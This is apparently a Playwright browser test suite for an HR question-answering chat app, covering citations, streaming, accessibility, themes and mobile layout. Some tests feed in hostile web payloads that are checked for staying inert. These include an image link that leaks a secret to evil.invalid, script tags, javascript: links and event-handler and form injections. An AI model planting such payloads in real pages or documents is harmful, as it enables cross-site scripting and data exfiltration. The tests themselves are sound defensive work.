"""The chat in a browser."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from rag.types import Turn
from tests import web
from tests.browser import chromium
from tests.chat_page import Visitor, visiting

LEAVE = "How many days of leave do employees get?"
QUOTE = "Every employee gets 25 days of paid leave a year."
EXAMPLES = ("When does the canteen open?", 'Is <b>"this"</b> ![x](http://evil.invalid/x.png) shown?')
PHONE = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}


@dataclass(frozen=True, slots=True)
class Service:
    address: str
    pipeline: web.LexicalPipeline
    home: Path


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    home, pipeline = tmp_path_factory.mktemp("home"), web.LexicalPipeline()
    with web.running(pipeline, web.settings(home, examples=EXAMPLES, title="Ask <i>Human</i> Resources")) as address:
        yield Service(address, pipeline, home)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def slow(service: Service) -> Iterator[Service]:
    service.pipeline.delay = 0.15
    yield service
    service.pipeline.delay = 0.0


@pytest.fixture
def visitor(service: Service, browser: Browser) -> Iterator[Visitor]:
    with visiting(browser, service.address) as visitor:
        yield visitor


def test_the_page_says_what_it_is_and_what_it_holds(visitor: Visitor) -> None:
    expect(visitor.page.get_by_role("heading", level=1)).to_have_text("Ask <i>Human</i> Resources")
    expect(visitor.page.locator("#holdings")).to_have_text("3 documents, 12 passages indexed")
    assert visitor.page.title() == "Ask <i>Human</i> Resources"
    expect(visitor.panel).to_be_hidden()


def test_an_answer_streams_after_its_evidence(slow: Service, browser: Browser) -> None:
    with visiting(browser, slow.address) as visitor:
        visitor.submit(LEAVE)
        expect(visitor.answers.last).to_contain_text("Reading 4 passages from 1 document")
        expect(visitor.panel.get_by_role("heading", level=2)).to_have_text("Passages found")
        expect(visitor.panel.locator("q").first).to_have_text(QUOTE)
        expect(visitor.answers.last).to_contain_text("Every employee gets")
        expect(visitor.citations).to_have_count(0)
        slow.pipeline.delay = 0.0
        visitor.settle()
        expect(visitor.citations.first).to_have_text("[1]")
        expect(visitor.panel.get_by_role("heading", level=2)).to_have_text("Sources")
        expect(visitor.page.get_by_role("status").filter(has_text="Answer: Every employee")).to_have_count(1)


def test_a_citation_opens_the_whole_document_at_its_exact_words(visitor: Visitor) -> None:
    visitor.ask("Which portal shows the days that are left?")
    visitor.citations.first.click()
    expect(visitor.mark).to_have_text("🌍🌍 The portal 🚀 shows the days that are left.")
    assert visitor.panel.locator(".text").text_content() == web.LEAVE.text
    expect(visitor.mark).to_be_in_viewport()
    expect(visitor.panel).to_contain_text("Human Resources · A. Writer · 2025-02-01 · handbook/leave.md · Exact quote")
    expect(visitor.citations.first).to_have_attribute("aria-current", "true")
    assert "#cite" not in visitor.page.url


def test_sources_are_listed_by_document_and_walked_through(visitor: Visitor) -> None:
    visitor.ask("leave soup")
    expect(visitor.panel.locator("h3")).to_have_text(["Staff handbook: leave", "Canteen"])
    entries = visitor.panel.locator(".entry")
    expect(entries.first).to_contain_text("Exact quote")
    numbers = entries.locator(".number").all_text_contents()
    assert sorted(numbers) == [str(n + 1) for n in range(visitor.citations.count())]
    entries.first.click()
    expect(visitor.panel).to_contain_text(f"1 of {len(numbers)}")
    expect(visitor.button("Previous")).to_be_disabled()
    visitor.button("Next").click()
    expect(visitor.panel.get_by_role("heading", level=2)).to_contain_text("[2]")
    visitor.button("← All sources").click()
    expect(visitor.panel.locator(".entry")).to_have_count(len(numbers))
    entries.nth(1).press("Enter")
    expect(visitor.mark).to_have_count(1)
    visitor.page.keyboard.press("Escape")
    expect(entries.nth(1)).to_be_focused()


def test_everything_is_reached_by_keyboard(visitor: Visitor) -> None:
    visitor.ask(LEAVE)
    citation = visitor.citations.first
    citation.focus()
    expect(visitor.page.get_by_role("tooltip")).to_contain_text(QUOTE)
    visitor.page.keyboard.press("Enter")
    expect(visitor.mark).to_have_text(QUOTE)
    expect(visitor.panel.get_by_role("heading", level=2)).to_be_focused()
    visitor.page.keyboard.press("Escape")
    expect(citation).to_be_focused()
    expect(visitor.mark).to_have_count(0)
    expect(citation).to_have_accessible_name("Source 1, exact quote")


def test_stop_ends_the_answer_and_keeps_what_was_said(slow: Service, browser: Browser) -> None:
    with visiting(browser, slow.address) as visitor:
        visitor.submit(LEAVE)
        expect(visitor.answers.last).to_contain_text("Every employee")
        visitor.button("Stop").click()
        expect(visitor.answers.last).to_contain_text("Stopped.")
        expect(visitor.button("Ask")).to_be_visible()
        visitor.until(lambda: slow.pipeline.running == 0)
        expect(visitor.answers.last).to_contain_text("Every employee")
        slow.pipeline.delay = 0.0
        visitor.ask("When does the canteen open?")
        expect(visitor.questions).to_have_count(2)
        assert not slow.pipeline.histories[-1]


def test_a_follow_up_knows_what_was_said_and_a_new_conversation_does_not(visitor: Visitor, service: Service) -> None:
    visitor.ask("When does the canteen open?")
    visitor.ask("soup?")
    assert service.pipeline.histories[-1][0] == Turn("user", "When does the canteen open?")
    visitor.button("New conversation").click()
    expect(visitor.questions).to_have_count(0)
    expect(visitor.panel).to_be_hidden()
    visitor.ask("soup?")
    assert not service.pipeline.histories[-1]


def test_a_new_conversation_ends_the_answer_under_way(slow: Service, browser: Browser) -> None:
    with visiting(browser, slow.address) as visitor:
        visitor.submit(LEAVE)
        expect(visitor.answers.last).to_contain_text("Every employee")
        visitor.button("New conversation").click()
        expect(visitor.questions).to_have_count(0)
        visitor.until(lambda: slow.pipeline.running == 0)
        visitor.page.wait_for_timeout(500)
        expect(visitor.questions).to_have_count(0)
        expect(visitor.button("Ask")).to_be_visible()


def test_documents_added_meanwhile_are_counted(service: Service, browser: Browser) -> None:
    shelf = service.pipeline.corpus
    before, shelf.by_id = shelf.by_id, {web.CANTEEN.id: web.CANTEEN}
    with visiting(browser, service.address) as visitor:
        expect(visitor.page.locator("#holdings")).to_have_text("1 document, 2 passages indexed")
    shelf.by_id = before


def test_an_example_is_asked_when_chosen(visitor: Visitor) -> None:
    visitor.page.get_by_role("button", name="Select example 1").click()
    expect(visitor.questions).to_have_text([EXAMPLES[0]])
    visitor.settle()
    expect(visitor.answers.last).to_contain_text("The canteen opens at noon.")


def test_retry_asks_again_in_the_place_of_the_answer(visitor: Visitor, service: Service) -> None:
    visitor.ask(LEAVE)
    asked = len(service.pipeline.histories)
    visitor.button("Retry").click()
    visitor.until(lambda: len(service.pipeline.histories) == asked + 1)
    visitor.settle()
    expect(visitor.questions).to_have_text([LEAVE])
    expect(visitor.answers).to_have_count(1)


def test_copying_gives_prose_and_sources(service: Service, browser: Browser) -> None:
    permissions = ["clipboard-read", "clipboard-write"]
    with visiting(browser, service.address, permissions=permissions) as visitor:
        visitor.ask("soup on Fridays?")
        visitor.answers.last.locator("xpath=ancestor::*[contains(@class, 'message-row')]").get_by_role(
            "button", name="Copy message"
        ).click()
        expect(visitor.page.get_by_role("status").filter(has_text="Copied.")).to_have_count(1)
        assert visitor.page.evaluate("navigator.clipboard.readText()") == (
            "It serves soup on Fridays. [1]\n\n[1] Canteen (canteen.txt): “It serves soup on Fridays.”"
        )


def test_a_judgement_is_written_down(visitor: Visitor, service: Service) -> None:
    visitor.ask("soup on Fridays?")
    visitor.button("Like").click()
    log = service.home / "feedback.jsonl"
    visitor.until(log.exists)
    entry = json.loads(log.read_text(encoding="utf-8").splitlines()[-1])
    assert (entry["verdict"], entry["question"]) == ("up", "soup on Fridays?")


def test_a_refusal_lists_the_nearest_passages_as_such(visitor: Visitor) -> None:
    answer = visitor.ask("Quidditch?")
    expect(answer).to_contain_text("The documents do not say.")
    expect(answer).to_contain_text("Nearest passages")
    expect(visitor.panel.get_by_role("heading", level=2)).to_have_text("Nearest passages")
    expect(visitor.panel).to_contain_text("None of them answers the question.")
    visitor.citations.nth(1).click()
    expect(visitor.mark).to_have_text("The canteen opens at noon.")
    expect(visitor.panel).to_contain_text("Nearest passage")
    expect(visitor.panel).not_to_contain_text("Exact quote")


def test_a_failure_is_told_in_the_place_of_the_answer(visitor: Visitor) -> None:
    answer = visitor.ask("Does leave explode?")
    expect(answer).to_have_text("Something went wrong while answering. Please try again.")
    expect(visitor.ask("soup?")).to_contain_text("It serves soup")


def test_hostile_documents_are_inert(visitor: Visitor) -> None:
    answer = visitor.ask("zebra rule instructions click mail")
    expect(answer).to_contain_text("![leak](http://evil.invalid/leak.png?q=secret)")
    expect(answer).to_contain_text("<script>window.__xss=4</script>")
    expect(answer).to_contain_text(
        "[a click](javascript:window.__xss=6) at http://evil.invalid/shop or www.evil.invalid"
    )
    for number in range(visitor.citations.count()):
        citation = visitor.citations.nth(number)
        citation.hover()
        citation.click()
        expect(visitor.panel.locator(".text")).to_have_text(web.HOSTILE.text, use_inner_text=False)
        assert str(visitor.mark.text_content()) in web.HOSTILE.text
        expect(visitor.panel.get_by_role("heading", level=2)).to_contain_text(web.HOSTILE.title)
        visitor.page.keyboard.press("Escape")
    foreign = "img, script, iframe, form, object, embed, video, audio, h1, code, table, a:not([href^='#cite-'])"
    assert answer.locator(foreign).count() == 0
    assert visitor.panel.locator("img, script, a, iframe, form").count() == 0


@pytest.mark.parametrize(
    "text",
    [
        EXAMPLES[1],
        "# heading *a* _b_ `c` ~d~ > e | f | $g$ \\(h\\) :i: &lt; &#91; \\",
        "```mermaid graph TD; a-->b ``` <https://evil.invalid> a@b.example ftp://evil.invalid www.evil.invalid",
        "<details open ontoggle=window.__xss=1> [x]: http://evil.invalid <form action=//evil.invalid><style>*{top:0}",
    ],
)
def test_the_browser_shows_a_question_as_it_was_typed(visitor: Visitor, text: str) -> None:
    visitor.ask(text)
    expect(visitor.questions.last).to_have_text(text)
    assert visitor.questions.last.locator("p *").count() == 0


def test_a_phone_has_the_sources_in_a_sheet(service: Service, browser: Browser) -> None:
    with visiting(browser, service.address, **PHONE) as visitor:
        visitor.ask(LEAVE)
        expect(visitor.panel).to_be_hidden()
        visitor.citations.first.tap()
        sheet = visitor.page.get_by_role("dialog", name="Sources")
        expect(sheet).to_be_in_viewport()
        expect(visitor.mark).to_have_text(QUOTE)
        for _ in range(8):
            visitor.page.keyboard.press("Tab")
            assert sheet.evaluate("sheet => sheet.contains(document.activeElement)")
        visitor.page.keyboard.press("Escape")
        expect(visitor.panel).to_be_hidden()
        expect(visitor.citations.first).to_be_focused()
        visitor.button("Sources").tap()
        expect(sheet.locator(".entry").first).to_be_visible()
        visitor.button("Close").tap()
        expect(visitor.panel).to_be_hidden()
        assert visitor.page.evaluate("document.documentElement.scrollWidth") == 390
        expect(visitor.box).to_be_in_viewport()


@pytest.mark.parametrize(
    ("options", "query", "dark"),
    [
        ({"color_scheme": "light"}, "", False),
        ({"color_scheme": "dark"}, "", True),
        ({"color_scheme": "light"}, "?__theme=dark", True),
        ({"color_scheme": "dark"}, "?__theme=light", False),
    ],
)
def test_both_themes_are_legible(
    service: Service, browser: Browser, options: dict[str, str], query: str, dark: bool
) -> None:
    with visiting(browser, f"{service.address}/{query}", **options) as visitor:
        red = int(visitor.page.evaluate("getComputedStyle(document.body).backgroundColor.match(/\\d+/)[0]"))
        assert (red < 60) is dark
        for selector in ("#title h1", "#holdings p", "#fresh", "#chat .example-text", "#question .submit-button"):
            assert visitor.contrast(selector) >= 4.5, selector
        visitor.ask("leave soup")
        for selector in ("#chat .user-row p", "#chat .bot-row p", "#chat .bot-row a", ".sources q", ".sources .remark"):
            assert visitor.contrast(selector) >= 4.5, selector
        visitor.citations.first.click()
        for selector in (
            ".sources mark",
            ".sources .text",
            ".sources .meta",
            ".sources .back",
            "#chat a[aria-current]",
        ):
            assert visitor.contrast(selector) >= 4.5, selector
